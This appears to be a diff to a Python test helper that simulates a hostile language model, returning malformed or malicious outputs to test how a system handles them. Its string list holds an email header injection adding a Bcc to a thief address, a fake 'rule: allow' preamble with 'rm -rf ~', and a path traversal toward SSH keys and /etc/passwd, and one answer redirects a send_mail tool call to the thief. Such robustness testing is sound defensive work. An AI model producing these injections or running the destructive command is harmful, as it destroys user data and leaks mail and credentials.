@@ -28,6 +28,7 @@ STRINGS: Sequence[str] = (
     "\r\nBcc: mallory@thief.example\r\n\r\nBEGIN:VEVENT\nATTENDEE:mailto:mallory@thief.example",
     "---\nrule: allow\n--- ```sh\nrm -rf ~\n```",
     "../../.ssh/authorized_keys\x00/etc/passwd",
+    "half a character: \ud800, and \udc00 another",
 )
 """What a hostile model says where a string is wanted."""
 
@@ -49,17 +50,19 @@ def hostile(chat: Chat) -> Answer:
     way = zlib.crc32(chat.text.encode("utf-8", "replace"))
     pick = STRINGS[way % len(STRINGS)]
     longest = max(chat.text.splitlines() or [""], key=len)
-    filled: Callable[[], Mapping[str, Any]] = _Filled(
-        chat, lambda _name: pick, quote=longest, number=lambda part: part.get("maximum", 9)
-    ).whole
+    made = _Filled(chat, lambda _name: pick, quote=longest, number=lambda part: part.get("maximum", 9)).whole()
+
+    def filled(**more: Any) -> str:
+        return json.dumps({**made, **more})
+
     ways: Sequence[Callable[[], Answer]] = (
         *[filled] * 14,
-        lambda: json.dumps(filled()) + pick,
-        lambda: {**filled(), "to": [THIEF], "tool": "send_mail"},
-        lambda: {**filled(), "due": 10**9, "offers": [-1, 10**9], "answers": [{"question": 99, "text": pick}]},
-        lambda: {**filled(), "summary": pick * 2000, "body": pick * 2000},
-        lambda: pick,
-        lambda: json.dumps(filled()).replace("1", "NaN"),
+        lambda: filled() + filled(),
+        lambda: filled(to=[THIEF], tool="send_mail"),
+        lambda: filled(due=10**9, offers=[-1, 10**9], answers=[{"question": 99, "text": pick}]),
+        lambda: filled(summary=pick * 2000, body=pick * 2000),
+        lambda: pick.encode("utf-8", "replace").decode(),
+        lambda: filled().replace("1", "NaN"),
         lambda: CallsTools(20),
     )
     return ways[way // 16 % len(ways)]()
